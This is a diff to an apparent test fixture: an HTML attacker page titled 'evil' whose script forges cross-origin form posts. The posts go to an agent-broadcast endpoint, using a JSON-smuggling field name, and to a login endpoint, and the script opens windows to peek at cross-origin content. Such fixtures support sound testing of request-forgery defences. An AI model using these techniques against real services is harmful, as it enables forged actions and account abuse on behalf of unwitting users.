@@ -42,10 +42,9 @@ const DOCUMENT = `<!doctype html><title>evil</title><body><script>
     return contentOf(frame)
   }
   const submit = async ({ origin, key, forged }, { path = '/v1/verbs/agent_broadcast', ...members }) => {
-    const frame = Object.assign(document.createElement('iframe'), { name: 'f' + Math.random() })
-    document.body.append(frame)
-    const target = { method: 'post', action: origin + path, target: frame.name, ...members }
-    const form = Object.assign(document.createElement('form'), target)
+    const { frame, target } = frameFor()
+    const asked = { method: 'post', action: origin + path, target, ...members }
+    const form = Object.assign(document.createElement('form'), asked)
     // As text it is one line of JSON: the name, an equals sign, and the value.
     const name = JSON.stringify({ key, text: forged, pad: '' }).slice(0, -2)
     form.append(Object.assign(document.createElement('input'), { name, value: '"}' }))
@@ -55,8 +54,26 @@ const DOCUMENT = `<!doctype html><title>evil</title><body><script>
     await came
     return contentOf(frame)
   }
-  const peek = async (url) => {
-    const opened = window.open(url)
+  const frameFor = () => {
+    const frame = Object.assign(document.createElement('iframe'), { name: 'f' + Math.random() })
+    document.body.append(frame)
+    return { frame, target: frame.name }
+  }
+  const post = async (origin, fields, { frame, target }) => {
+    const members = { method: 'post', action: origin + '/login', target }
+    const form = Object.assign(document.createElement('form'), members)
+    for (const [name, value] of Object.entries(fields))
+      form.append(Object.assign(document.createElement('input'), { name, value }))
+    document.body.append(form)
+    const came = frame && outcome(frame)
+    form.submit()
+    await came
+    return frame ? contentOf(frame) : ''
+  }
+  const peek = async (url, then = () => {}) => {
+    const target = 'w' + Math.random()
+    const opened = window.open(url, target)
+    await then(target)
     await pause(400)
     const looks = [
       () => opened.document.body.innerText,
@@ -73,7 +90,7 @@ const DOCUMENT = `<!doctype html><title>evil</title><body><script>
       }
     })
     // A window that was cut off is an empty one to whoever opened it.
-    const found = opened.closed ? [] : seen.filter((text) => !['', 'about:blank', '0', '1'].includes(text))
+    const found = opened.closed ? [] : seen.filter((text) => !['', 'about:blank', '0', '1', target].includes(text))
     opened.close()
     return found.join(' ')
   }
